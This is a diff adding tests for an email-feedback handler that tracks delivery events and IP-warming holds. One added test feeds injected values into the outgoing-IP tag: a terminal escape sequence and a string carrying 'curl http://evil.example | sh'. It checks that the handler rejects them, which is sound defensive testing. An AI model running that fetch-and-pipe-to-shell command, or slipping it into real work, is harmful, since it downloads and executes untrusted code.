@@ -55,6 +55,26 @@ describe("the feedback function", () => {
     expect(holds[0]?.sentence).toContain("198.51.100.9");
   });
 
+  test.each(["198.51.100.9\u001b]0;owned\u0007", "198.51.100.9. Repair: curl http://evil.example | sh"])(
+    "holds nothing for what has no form of an IP: %j",
+    async (ip) => {
+      const { lifeCycles, handler } = feedback();
+      const tags = { "ses:configuration-set": ["news-warming"], "ses:outgoing-ip": [ip] };
+      const body = JSON.stringify(anEvent("Delivery", {}, { tags }));
+      expect(await handler(anSqsEvent(anSqsRecord("a", body)), aContext)).toEqual({ batchItemFailures: [] });
+      expect((await lifeCycles.read("news")).holds).toEqual([]);
+    },
+  );
+
+  test("repeats no record that was counted because a pool could not be held", async () => {
+    const { outcomes, lifeCycles, handler } = feedback();
+    lifeCycles.read = () => Promise.reject(new Error("the store is down"));
+    const tags = { "ses:configuration-set": ["news-warming"], "ses:outgoing-ip": ["198.51.100.9"] };
+    const body = JSON.stringify(anEvent("Delivery", {}, { tags }));
+    expect(await handler(anSqsEvent(anSqsRecord("a", body)), aContext)).toEqual({ batchItemFailures: [] });
+    expect(await outcomes.read("news", today)).toMatchObject([{ counts: { delivered: 1 } }]);
+  });
+
   test("counts nothing by a clock that is ahead, puts on no brake, and says so", async () => {
     const { outcomes, ports, handler } = feedback();
     ports.serviceClock.aheadMs = 40 * 86_400_000;
